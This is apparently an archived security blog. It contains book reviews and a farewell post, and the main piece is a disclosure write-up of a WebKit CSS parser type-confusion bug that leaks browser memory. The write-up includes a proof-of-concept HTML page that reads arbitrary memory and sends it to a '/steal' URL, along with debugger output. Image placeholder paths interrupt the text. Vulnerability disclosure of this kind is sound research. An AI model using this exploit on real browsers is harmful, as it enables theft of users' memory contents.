Tuesday, June 26, 2012

Changing Blogs

After 6 years of blogging here at EM_386 I have decided to stop posting. Fortunately it is only so I can begin writing on the new LeafSR blog. I will be porting over a few of the better EM_386 posts as time permits but you can expect new content going forward.

In the past 6 years I've only logged 50 posts here but many of them still see dozens of page views a day. That is especially true of posts such as ELF Relocations Names and Symbols, WebKit CSS Type Confusion and GlibC 2.11 Stops the House of Mind. To this day I still get emails from people who read and appreciate the older posts. For that reason I will be leaving all the old content here unmodified. Hopefully someone will find it useful in the future.

Thanks again for reading and see you at the new blog!

Thursday, April 12, 2012

Practical Malware Analysis Review

I recently finished my review copy of 'Practical Malware Analysis'. I enjoyed this book for a few reasons. Each chapter concludes with somesimple questions/labs to test your knowledge and give you a chance at some hands on experience related to the content you just read.

Although the title leads you to believe its strictly a malware analysis book theres a lot of good content for any new reverse engineer. This is especially true for the static analysis sections. There are also two chapters in this book that I think help it really stand out among similar books: 'Chapter 20: C++ Analysis' and 'Chapter 21: 64-bit Malware'. None of the information in these chapters is new research but as a beginner you would have to sort through dozens of research papers to find the same content. They are a great introduction to both topics.

If you analyze malware for a living or are just looking to understand how software reverse engineering works then you won't regret buying this book.

(I originally intended to post this over a month ago. Better late than never!)

Tuesday, November 22, 2011

Book reviews and more...

Recently I was sent review copies of three books from No Starch Press and Addison Wesley. This occasionally happens but I never blog reviews, I'm going to change that...

'A Bug Hunters Diary'
This book by Tobias Klein was the first book I reviewed. I, like many others in the security community, received a review copy a few weeks back and I just finished it up. I was aware of Tobias' public security advisories and tools long before this book was published, so I was eager to read it from the start. Theauthor takes the reader through a tour of bug hunting from start to finish. This includes detailed source and binary analysis ofthe bugs he has found, the process for triggering them and finally gaining control of EIP. While gaining EIP is great, in 2011 its just the first step to reliable code execution, but exploitation is not the focus of the book. He does not provide full exploits due to the laws in his home country (he makes this point several times), which is a shame but understandable. Each chapter focuses on different applications ranging from media players (VLC) to kernel drivers and on different operating system platforms includingiOS, Solaris, Linux and Windows. This sounds like a ton of information to take in but the book is actually quite small and readable. As usual No Starch does a good job of adding side-bar style information and good illustrations to help the reader understand complex technical concepts. There are also three appendices with helpful information for bug hunting, debugging tips and exploit mitigations. I even got a mention in appendix C for a generic RELRO technique I published a number of years ago. I definitely recommend this book for anyone who is just starting out in this field and is interested to know exactly what the process of finding software vulnerabilities is like.

'The CERT Oracle Secure Coding Standard For Java'
I would normally never review a book like this because #1 its a massive technical reference book and #2 I'm not a huge fan of Java. But I saw Robert Seacord was one of the authors and changed my mind. Nothing against the other authors, their names just weren't known to me. To be honest I did not read the entire thing, its a reference book in my opinion and not meant to be read cover to cover. In fact it reads like the cert.org standards websites and thats because its the same text. All of the CERT standards are wellresearched and tested, I recommend them to developers all the time and this one is no exception. If you are a Java developer then you should definitely have the standards website bookmarked. If you're looking for some light weekend reading then this probably isn't the book for you.
'The Tangled Web'
Last, but certainly not least, Michal Zalewski's newest book is about web security. @lcamtuf is a well known person in the security community. His published work includes tools that range from low level debugging to automated XSS detection. If you work in computer security and you dont know who he is then you don't really work in computer security. My expectations were high for this book for a reason and it doesn't disappoint. The first chapter contains a good overview of why security is difficult and how the webis no exception. Theres also a good browser history lesson mixed in there. I do a lot of research that involves reading browser source code and reversing particular browser components and I am always surprised by quirks I find in each different implementation. It is these subtle differences that make XSS work on one browser and not another. Theres a huge divide between a  web pentester who know how browsers work and one that just pastes JavaScript into every GET parameter. The Tangled Web captures a lot of these nuances between CSS and JavaScript implementations. Each chapter concludes with a great cheat sheet. Overall, I enjoyed the book. If you test or build web apps then you will too.

Sunday, August 07, 2011

Attacking Client Side JIT Compilers

This blog is far from dead! I have been involved in some very interesting research these past few months. Yan Ivnitskiy and I presented at the BlackHat conference in Las Vegas this August. The title of our talk was Attacking Client Side JIT Compilers. We researched everything from incorrect JIT code emission to reusing predictable JIT code sequences.

We have published our slides and our research paper on the Matasano research website. You can find it all here.Feel free to email either Yan or myself if you have any questions about the content.

Wednesday, December 15, 2010

WebKit CSS Type Confusion

Here is an interesting WebKit vulnerability I came across and reported to Google, Apple and the WebKit.org developers.

Description: WebKit CSS Parser Type Confusion
Software Affected: Chrome 7/8, Safari5.0.3, Epiphany 2.30.2, WebKit-r72146 (others untested)
Severity: Medium

The severity of the vulnerability was marked Medium by the Chrome developers because the bug can only result in an information leak. I don't have a problem with that but I have some more thoughts on it at the end of the post. But first the technical details.

The WebKit CSS parser internally stores a CSSParserValueList which contains a vector of CSSParserValue structures. These structures are used to hold the contents of parsed CSS attribute values such as integers, floating point numbers or strings. Here is what a CSSParserValue looks like.
struct CSSParserValue {
    int id;
    bool isInt;
    union {
        double fValue;
        int iValue;CSSParserString string;
        CSSParserFunction* function;
    enum {
        Operator = 0x100000,
        Function = 0x100001,
        Q_EMS    = 0x100002
    int unit;

    PassRefPtr createCSSValue();
When WebKit has successfully parsed a CSS value it will set the unit variable to a constant indicating what type it should be interpreted as. So depending on the value of unit a different member of theunion will be used to address the CSS value later in the code. If the value was a floating point or an integer the fValue or iValue will store that number. If the value is a string a special CSSParserString structure is used to copy the string before placing it into the DOM aselement.style.src.

The vulnerability exists in a function responsible for parsing the location of a font face source. So we find ourselves in WebCore::CSSParser::parseFontFaceSrc() found in CSSParser.cpp of the WebKit source. I have clipped certain parts of the function for brevity.
bool CSSParser::parseFontFaceSrc()
[3629]        } else if (val->unit == CSSParserValue::Function) {
[3630]            // There are two allowed functions: local() and format().
[3631]           CSSParserValueList* args = val->function->args.get();
[3632]            if (args && args->size() == 1) {
[3633]                if (equalIgnoringCase(val->function->name, "local(") && !expectComma) {
[3634]                    expectComma = true;
[3635]                    allowFormat = false;
[3636]                    CSSParserValue* a = args->current();
[3637]                    uriValue.clear();
[3638]                    parsedValue = CSSFontFaceSrcValue::createLocal(a->string);
At this point in the code the CSS parser has already extracted the value of the font face source and now the code is trying to determine whether the font value is local or not. If the source of the font is wrapped in a local() URL then we hit the code above. The problem here is that the CSSParserValue's unit variable is never checked on line 3633. The code assumes the value previously parsed is a string and the CSSParserString structure within the union has already been initialized by a previous caller. Now on line 3636 aCSSParserValue pointer, a, is assigned to the value and on line3638 the a->string operator is called on it. Here is what that structure looks like:
struct CSSParserString {
    UChar* characters;
    int length;

    void lower();

    operator String() const { return String(characters, length); }
    operator AtomicString() const { return AtomicString(characters, length); }
Sowhen a->string is called in line 3638 WebKit's internal string functions will be called to create a string with a source pointer of a->string.characters with a length of a->string.length so it can be added to the DOM by CSSParser::addProperty(). This code assumes the value is a string but this CSSParserValue may not have been initialized as one. Lets take a second look at the union again in the CSSParserValue structure:
    union {
        double fValue;               // 64 bits
        int iValue;                  // 32 bits
        CSSParserString string;      // sizeof(CSSParserString)
        CSSParserFunction* function; // 32 bits
The double fValue will occupy 64 bits in memory on a 32 bit x86 platform [1]. This means in memory at runtime the first dword of fValue overlaps with string.characters and the second with string.length. If we can supply a specific floating point value as the source location of this font facewe can trigger an information leak when WebKit interprets it as a CSSParserString structure and attempts to make a copy of the string. I should also note that the string creation uses StringImpl::create whichcopies the string using memcpy, so we don't have to worry about our stolen data containing NULL's. Exploiting this bug is very easy:
      < html>
      < script>
        function read_memory() {
            ele = document.getElementById('1');
            document.location = "http://localhost:4567/steal?s=" + encodeURI(ele.style.src);
      < /script>
      < h1 id=1 style="src: local(0.(your floating point here) );" />
      < button onClick='read_memory()'>Click Me
      < /html>
That floating point number will occupy the first 64 bits of theunion. The double fValue when holding this value will look like this in memory 0xbf95d38b 0x000001d5. Which means (a->string.characters = 0xbf95d38b) and (a->string.length = 0x000001d5). Through our floating point number we cancontrol the exact address and length of an arbitrary read whose contents will then be added to the DOM as the source of the font face. In short, an attacker can steal as much content as he wants from anywhere in your browsers virtual memory. Here is the CSSParserValue structure in memory just after the assignment of the CSSParserValue pointer, a, when running the exploit.
(gdb) print *a
$167 = {id = 0, isInt = false, {fValue = 9.9680408499984197e-312, iValue = -1080700021,
string = {characters = 0xbf95d38b, length = 469}, function = 0xbf95d38b}, unit = 1}

(gdb) x/8x a
0xb26734f0:    0x00000000    0x00000100    0xbf95d38b    0x000001d5
0xb2673500:    0x00000001    0x00000000    0x000000000x00000000
Here is where the stack is mapped in my browser:
bf93a000-bf96e000 rw-p 00000000 00:00 0          [stack]
I did some testing of this bug using Gnome's Epiphany browser. It also uses WebKit and is a little easier to debug than Chrome. Here is a screenshot of the exploit using JavaScript to read 469 bytes from the stack and displaying it in an alert box:

OK so it's an info leak. No big deal... right? Info leaks are becoming more valuable as memory corruption mitigations such as ASLR (Address Space Layout Randomization) become more adopted by software vendors. An info leak essentially makes ASLR worthless because an attacker can use it to find out where your browsers heap is mapped orwhere a specific DLL with ROP gadgets resides in memory. Normally an info leak might come in the form of exposing a single address from an object or reading a few bytes off the end of an object, which exposes vftable addresses. These types of leaks also make exploitation easier but usually don't expose any of the web content displayed by the browser. In the case of this bug we have to specify what address to read from. If an unmapped address is used or the read walks off the end of a page then we risk crashing the process. The attacker doesn't have to worry about this on platforms without ASLR.

